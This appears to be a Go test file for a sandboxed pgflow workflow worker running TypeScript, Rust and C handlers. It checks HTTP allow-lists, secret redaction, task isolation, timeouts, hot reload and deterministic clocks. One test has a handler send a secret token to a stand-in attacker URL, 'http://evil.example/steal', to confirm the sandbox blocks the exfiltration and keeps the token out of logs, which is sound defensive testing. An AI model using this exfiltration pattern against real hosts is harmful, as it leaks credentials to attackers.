package worker_test

import (
	"context"
	"encoding/json"
	"fmt"
	"github.com/pgflow-wasm/pgflow-wasm/pgflowtype"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pgflow-wasm/pgflow-wasm/internal/testkit/pgtest"
	"github.com/pgflow-wasm/pgflow-wasm/internal/testkit/workertest"
	"github.com/pgflow-wasm/pgflow-wasm/internal/worker"
	"github.com/pgflow-wasm/pgflow-wasm/sandbox"
	"github.com/pgflow-wasm/pgflow-wasm/schema"
)

func init() {
	for _, name := range []string{"enrich", "report", "echo", "fetch", "leaky", "counter", "spin", "now"} {
		testModules[name+"_ts"] = "modules/testdata/ts/" + name + ".ts"
	}
	testModules["word_count_rs"] = "modules/examples/rust/word_count.wasm"
	testModules["sum_c"] = "modules/examples/c/sum.wasm"
}

// yamlLine is a flows.yaml line reference: the two languages' steps sit on different lines.
var yamlLine = regexp.MustCompile(`flows\.yaml:\d+`)

// pgflowSplitsInput says whether the database's pgflow gives handlers the flow input apart
// from their dependencies' outputs (0.12 and later), as its TypeScript worker does.
func pgflowSplitsInput(t *testing.T, db *pgtest.DB) bool {
	t.Helper()
	p, err := schema.DetectPgflow(context.Background(), db.Pool)
	if err != nil {
		t.Fatal(err)
	}
	return p.FlowInput
}

// scoringAPI scores texts by length for holders of the token, and records what it saw.
type scoringAPI struct {
	*httptest.Server
	host  string
	mu    sync.Mutex
	auths []string
	keys  []string
}

func newScoringAPI(t *testing.T, token string) *scoringAPI {
	api := &scoringAPI{}
	api.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		api.mu.Lock()
		api.auths = append(api.auths, r.Header.Get("Authorization"))
		api.keys = append(api.keys, r.Header.Get("Idempotency-Key"))
		api.mu.Unlock()
		if r.Header.Get("Authorization") != "Bearer "+token {
			http.Error(w, "who are you", http.StatusUnauthorized)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"score": %d}`, len(r.URL.Query().Get("text")))
	}))
	t.Cleanup(api.Close)
	api.host = strings.TrimPrefix(api.URL, "http://")
	return api
}

// A flow mixing languages: Rust counts the words of each line (a map), C sums them, a
// TypeScript map step scores each line over HTTP with a token from ctx.env, and a TypeScript
// step reports on the C step's and the map's outputs. Each TypeScript handler gets what
// pgflow's own worker would give it on this database. An unlisted host fails a TypeScript
// task with the message a Rust task fails with. Not parallel: it sets environment variables.
func TestTypeScriptStepsBesideRustAndC(t *testing.T) {
	const token = "tok_Vb71xQ"
	api := newScoringAPI(t, token)
	other := newScoringAPI(t, token)
	t.Setenv("LOOKUP_URL", api.URL)
	t.Setenv("LOOKUP_TOKEN", token)
	db := pgtest.NewDB(t)
	split := pgflowSplitsInput(t, db)
	f := flows(t, fmt.Sprintf(`
flows:
  - slug: mixed
    steps:
      - {slug: words, type: map, module: "{{word_count_rs}}"}
      - {slug: total_c, depends_on: [words], module: "{{sum_c}}"}
      - slug: enrich
        type: map
        depends_on: [words]
        module: "{{enrich_ts}}"
        http: {allow: ["%[1]s"]}
        env: [LOOKUP_URL, LOOKUP_TOKEN]
      - {slug: report, depends_on: [enrich, total_c], module: "{{report_ts}}"}
  - slug: root_ts
    steps:
      - {slug: echo, module: "{{echo_ts}}"}
  - slug: unlisted_ts
    max_attempts: 1
    steps:
      - {slug: fetch, module: "{{fetch_ts}}", http: {allow: ["%[1]s"]}}
  - slug: unlisted_rs
    max_attempts: 1
    steps:
      - {slug: fetch, module: "{{fetch_rs}}", http: {allow: ["%[1]s"]}}
  - slug: allowed_ts
    steps:
      - {slug: fetch, module: "{{fetch_ts}}", http: {allow: ["%[1]s"]}}
`, api.host))
	for _, eng := range sandbox.Engines() {
		t.Run(eng, func(t *testing.T) {
			db := db
			if eng != sandbox.EngineWazero {
				db = pgtest.NewDB(t)
			}
			startWorker(t, db.Pool, f, worker.Config{Engine: engine(t, eng)})
			lines := `["the quick brown fox", "jumps over", "the lazy dog"]`
			id := startRun(t, db.Pool, "mixed", lines)
			r := waitRun(t, db.Pool, id, 60*time.Second)
			if r.Status != "completed" {
				t.Fatalf("mixed: %s (%s)", r.Status, r.Error)
			}
			keys := `["enrich", "total_c"]`
			if !split {
				keys = `["enrich", "run", "total_c"]` // pgflow 0.8-0.11 give every step "run"
			}
			jsonEqual(t, r.Output, `{"report": {"words": 9, "best": 19, "lines": 3, "keys": `+keys+`}}`)
			var enriched string
			if err := db.Pool.QueryRow(context.Background(), `select output::text from pgflow.step_tasks
				where run_id = $1::uuid and step_slug = 'enrich' and task_index = 2`,
				id).Scan(&enriched); err != nil {
				t.Fatal(err)
			}
			jsonEqual(t, json.RawMessage(enriched), `{"text": "the lazy dog", "words": 3, "score": 12, "task": 2}`)
			api.mu.Lock()
			if len(api.keys) < 3 || !strings.HasPrefix(api.keys[len(api.keys)-1], id+":enrich:") {
				t.Errorf("idempotency keys sent: %v", api.keys)
			}
			api.mu.Unlock()

			// A root step: the flow input itself from pgflow 0.12, {"run": ...} before.
			root := startRun(t, db.Pool, "root_ts", `{"order": 7}`)
			r = waitRun(t, db.Pool, root, 30*time.Second)
			if split {
				jsonEqual(t, r.Output, `{"echo": {"input": {"order": 7}, "flowInput": {"order": 7}}}`)
			} else {
				jsonEqual(t, r.Output, `{"echo": {"input": {"run": {"order": 7}}, "flowInput": {"order": 7}}}`)
			}

			ok := startRun(t, db.Pool, "allowed_ts", fmt.Sprintf(`{"url": %q}`, api.URL+"/score?text=abc"))
			if r := waitRun(t, db.Pool, ok, 30*time.Second); r.Status != "completed" {
				t.Errorf("allowed_ts: %s (%s)", r.Status, r.Error)
			} else {
				jsonEqual(t, r.Output, `{"fetch": {"status": 401, "bytes": 12}}`) // no token sent: the API's 401 is an output
			}
			// The same refusal, in TypeScript and in Rust: the same message but for the flow's name
			// and line; the TypeScript one then has its stack.
			errs := map[string]string{}
			for _, lang := range []string{"ts", "rs"} {
				id := startRun(t, db.Pool, "unlisted_"+lang, fmt.Sprintf(`{"url": %q}`, other.URL+"/score"))
				if r := waitRun(t, db.Pool, id, 30*time.Second); r.Status != "failed" {
					t.Fatalf("unlisted_%s: %s", lang, r.Status)
				}
				msg := taskOf(t, db.Pool, id).Error
				msg = yamlLine.ReplaceAllString(strings.ReplaceAll(msg, "unlisted_"+lang, "FLOW"), "flows.yaml:N")
				errs[lang], _, _ = strings.Cut(msg, "\n")
			}
			if errs["ts"] != errs["rs"] || !strings.Contains(errs["ts"], "http: host "+other.host+" is not allowed") {
				t.Errorf("an unlisted host:\nTypeScript: %s\nRust:       %s", errs["ts"], errs["rs"])
			}
		})
	}
}

// Secrets a TypeScript handler reads from ctx.env appear in no log line at debug level, no
// error and no `runs`/`run` output, when the handler succeeds and when it sends the secret to
// a host it may not reach. Not parallel: it sets environment variables.
func TestTypeScriptSecretsNeverLogged(t *testing.T) {
	const token = "tok_Hq4ZpR8sW2"
	api := newScoringAPI(t, token)
	t.Setenv("LOOKUP_URL", api.URL)
	t.Setenv("LOOKUP_TOKEN", token)
	db := pgtest.NewDB(t)
	f := flows(t, fmt.Sprintf(`
flows:
  - slug: scored
    steps:
      - {slug: words, type: map, module: "{{word_count_rs}}"}
      - slug: enrich
        type: map
        depends_on: [words]
        module: "{{enrich_ts}}"
        http: {allow: ["%[1]s"]}
        env: [LOOKUP_URL, LOOKUP_TOKEN]
  - slug: leaky
    max_attempts: 1
    steps:
      - {slug: call, module: "{{leaky_ts}}", http: {allow: ["%[1]s"]}, env: [LOOKUP_TOKEN]}
`, api.host))
	logs := &syncBuffer{}
	startWorker(t, db.Pool, f, worker.Config{Log: slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))})
	id := startRun(t, db.Pool, "scored", `["one line", "two lines"]`)
	if r := waitRun(t, db.Pool, id, 60*time.Second); r.Status != "completed" {
		t.Fatalf("scored: %s (%s)", r.Status, r.Error)
	}
	leaky := startRun(t, db.Pool, "leaky", `{"url": "http://evil.example/steal"}`)
	if r := waitRun(t, db.Pool, leaky, 30*time.Second); r.Status != "failed" || !strings.Contains(r.Error, "host evil.example:80 is not allowed") {
		t.Errorf("leaky: %s (%s)", r.Status, r.Error)
	}
	api.mu.Lock()
	if len(api.auths) != 2 || api.auths[0] != "Bearer "+token {
		t.Errorf("the API saw %v, want the token twice", api.auths)
	}
	api.mu.Unlock()
	var out strings.Builder
	for _, run := range []string{id, leaky} {
		tree, err := workertest.Store(t, db.Pool).GetTree(context.Background(), run)
		if err != nil {
			t.Fatal(err)
		}
		tree.Render(&out, 0)
		fmt.Fprintf(&out, "%+v\n", tree)
	}
	// The test looks at the right text: the handler's debug line and the refusal are there.
	if !strings.Contains(logs.String(), "scoring") || !strings.Contains(logs.String(), "task started") || !strings.Contains(out.String(), "is not allowed") {
		t.Fatalf("the test looks at the wrong output:\n%s\n%s", out.String(), logs.String())
	}
	for what, text := range map[string]string{"runs/run output": out.String(), "debug log": logs.String()} {
		if strings.Contains(text, token) || strings.Contains(text, token[4:]) {
			t.Errorf("the secret shows in the %s:\n%s", what, text)
		}
	}
}

// A global, a module variable or a prototype a TypeScript task changes is not seen by the
// next task of the step: each task runs in a fresh instance of the handler's snapshot.
func TestTypeScriptTasksShareNothing(t *testing.T) {
	t.Parallel()
	db := pgtest.NewDB(t)
	f := flows(t, `
flows:
  - slug: counting
    steps:
      - {slug: count, module: "{{counter_ts}}"}
  - slug: counting_map
    steps:
      - {slug: count, type: map, module: "{{counter_ts}}"}
`)
	startWorker(t, db.Pool, f, worker.Config{Concurrency: 1})
	var ids []string
	for range 4 {
		ids = append(ids, startRun(t, db.Pool, "counting", `{}`))
	}
	for _, id := range ids {
		r := waitRun(t, db.Pool, id, 30*time.Second)
		if r.Status != "completed" {
			t.Fatalf("%s: %s", r.Status, r.Error)
		}
		jsonEqual(t, r.Output, `{"count": {"calls": 1, "seen": 1, "polluted": false}}`)
	}
	// Six tasks of one map step, one after the other on one slot.
	r := waitRun(t, db.Pool, startRun(t, db.Pool, "counting_map", `[1, 2, 3, 4, 5, 6]`), 30*time.Second)
	one := `{"calls": 1, "seen": 1, "polluted": false}`
	jsonEqual(t, r.Output, `{"count": [`+strings.Repeat(one+",", 5)+one+`]}`)
}

// `while (true) {}` in TypeScript with a 2 s timeout is stopped on every engine before the
// sandbox would abandon it (deadline + its second of grace: how many milliseconds past the
// deadline it takes is the benchmarks' to measure, and a loaded machine stretches it), fails
// with pgflow's timeout message, and other runs keep completing meanwhile.
func TestTypeScriptRunawayStopsAtDeadline(t *testing.T) {
	for _, eng := range sandbox.Engines() {
		t.Run(eng, func(t *testing.T) {
			db := pgtest.NewDB(t)
			f := flows(t, `
flows:
  - slug: runaway
    max_attempts: 1
    steps:
      - {slug: spin, module: "{{spin_ts}}", timeout: 2}
  - slug: cheap
    steps:
      - {slug: echo, module: "{{echo_ts}}"}
`)
			var mu sync.Mutex
			var spun []time.Duration
			hooks := pgflowtype.Hooks{TaskFinished: func(_ context.Context, ti pgflowtype.TaskInfo, r pgflowtype.TaskResult) {
				if ti.FlowSlug == "runaway" {
					mu.Lock()
					spun = append(spun, r.Duration)
					mu.Unlock()
				}
			}}
			e := engine(t, eng)
			startWorker(t, db.Pool, f, worker.Config{Engine: e, Hooks: hooks})
			var runaway []string
			for range 2 {
				runaway = append(runaway, startRun(t, db.Pool, "runaway", `{}`))
			}
			var cheap []string
			for range 30 { // one every 100 ms for 3 s, across the runaway tasks' lifetime
				cheap = append(cheap, startRun(t, db.Pool, "cheap", `{"n": 1}`))
				time.Sleep(100 * time.Millisecond)
			}
			for _, id := range cheap {
				if r := waitRun(t, db.Pool, id, 30*time.Second); r.Status != "completed" {
					t.Errorf("cheap run: %s (%s)", r.Status, r.Error)
				}
			}
			for _, id := range runaway {
				r := waitRun(t, db.Pool, id, 30*time.Second)
				if k := taskOf(t, db.Pool, id); r.Status != "failed" || k.Error != "Task timed out after 2s" {
					t.Errorf("runaway: %s, task %q", r.Status, k.Error)
				}
			}
			mu.Lock()
			defer mu.Unlock()
			if len(spun) != len(runaway) {
				t.Fatalf("%d runaway tasks ended, want %d", len(spun), len(runaway))
			}
			for _, d := range spun {
				t.Logf("%s: the handler ran %v (deadline + %v)", eng, d, d-2*time.Second)
				if d > 2*time.Second+sandbox.DefaultWatchdogGrace {
					t.Errorf("%s: a runaway task ran %v, past its 2 s deadline + the watchdog's grace", eng, d)
				}
			}
			lat := runLatencies(t, db.Pool, "cheap")
			t.Logf("%s: cheap runs meanwhile: median %.3f s, max %.3f s", eng, lat[len(lat)/2], lat[len(lat)-1])
			if n := e.Abandoned(); n != 0 {
				t.Errorf("Abandoned() = %d", n)
			}
		})
	}
}

// serve picks up an edit of a file a TypeScript handler imports, not only of the handler
// itself; an edit that does not build is refused with its file:line and the handler loaded
// before goes on serving.
func TestServeReloadsATypeScriptHandlersImports(t *testing.T) {
	t.Parallel()
	db := pgtest.NewDB(t)
	ctx := context.Background()
	dir := t.TempDir()
	write := func(name, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("flows.yaml", "flows:\n  - slug: greeting\n    steps:\n      - {slug: s, module: handler.ts}\n")
	write("handler.ts", "import { word } from './lib/word';\nexport default async () => word;\n")
	write("lib/word.ts", "export const word = 'hello';\n")
	logs := &syncBuffer{}
	serveCtx, stop := context.WithCancel(ctx)
	served := make(chan error, 1)
	go func() {
		served <- worker.Serve(serveCtx, worker.ServeConfig{
			FlowsPath: filepath.Join(dir, "flows.yaml"),
			Worker: workertest.Fast(worker.Config{Pool: db.Pool, Engine: engine(t, "wazero"),
				Log: slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelInfo}))}),
			WatchInterval: 100 * time.Millisecond,
		})
	}()
	defer func() {
		stop()
		if err := <-served; err != nil {
			t.Errorf("Serve: %v", err)
		}
	}()
	outputOf := func() string {
		r := waitRun(t, db.Pool, startRun(t, db.Pool, "greeting", `{}`), 30*time.Second)
		return string(r.Output)
	}
	waitFor(t, 3*time.Minute, func() (bool, string) {
		var n int
		_ = db.Pool.QueryRow(ctx, `select count(*) from pgflow.workers where queue_name = 'greeting'`).Scan(&n)
		return n > 0, "the worker never registered:\n" + logs.String()
	})
	if got := outputOf(); got != `{"s": "hello"}` {
		t.Fatalf("before the edit: %s", got)
	}
	write("lib/word.ts", "export const word = 'hello' +;\n")
	waitFor(t, 30*time.Second, func() (bool, string) {
		return strings.Contains(logs.String(), "reload refused") && strings.Contains(logs.String(), "lib/word.ts:1:30: Unexpected"),
			"the broken import was not refused with its line:\n" + logs.String()
	})
	if got := outputOf(); got != `{"s": "hello"}` {
		t.Errorf("after a refused edit: %s, want the handler loaded before", got)
	}
	write("lib/word.ts", "export const word = 'bonjour';\n")
	// A new handler is a new snapshot to compile: seconds, and a minute and more under the
	// race detector on a loaded machine.
	waitFor(t, 3*time.Minute, func() (bool, string) {
		return outputOf() == `{"s": "bonjour"}`, "the edited import was not picked up:\n" + logs.String()
	})
}

// A TypeScript handler's new Date() is the wall clock; on a step with `deterministic: true`
// it is the fixed 2022-01-01 of the deterministic sandbox.
func TestHandlersSeeTheWallClockUnlessDeterministic(t *testing.T) {
	t.Parallel()
	db := pgtest.NewDB(t)
	f := flows(t, `
flows:
  - slug: clocks
    steps:
      - {slug: real, module: "{{now_ts}}"}
      - {slug: fixed, module: "{{now_ts}}", deterministic: true}
`)
	startWorker(t, db.Pool, f, worker.Config{})
	began := time.Now()
	r := waitRun(t, db.Pool, startRun(t, db.Pool, "clocks", `{}`), time.Minute)
	if r.Status != "completed" {
		t.Fatalf("run: %s (%s)", r.Status, r.Error)
	}
	var out map[string]struct {
		Now time.Time `json:"now"`
	}
	if err := json.Unmarshal(r.Output, &out); err != nil {
		t.Fatalf("%s: %v", r.Output, err)
	}
	// A minute either way: the reading comes between the run's start and its end.
	if at := out["real"].Now; at.Before(began.Add(-time.Minute)) || at.After(time.Now().Add(time.Minute)) {
		t.Errorf("new Date() in a handler = %s, want about %s", at, began.UTC())
	}
	if at := out["fixed"].Now; !at.Before(time.Date(2022, 1, 1, 0, 1, 0, 0, time.UTC)) || at.Before(time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("new Date() in a deterministic handler = %s, want the fixed 2022-01-01T00:00", at)
	}
}
